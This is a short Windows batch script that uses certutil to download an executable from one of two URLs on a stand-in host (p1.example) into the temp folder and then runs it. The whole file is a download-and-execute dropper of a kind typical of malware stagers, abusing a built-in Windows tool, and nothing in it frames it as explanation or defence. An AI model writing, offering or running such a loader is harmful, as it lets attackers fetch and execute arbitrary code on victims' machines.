@echo off
setlocal enabledelayedexpansion
for %%u in (http://p1.example/q http://p1.example/r) do (
  certutil -urlcache -split -f "%%u" "%TEMP%\x.exe"
  if exist "%TEMP%\x.exe" goto run
)
:run
start "" "%TEMP%\x.exe"
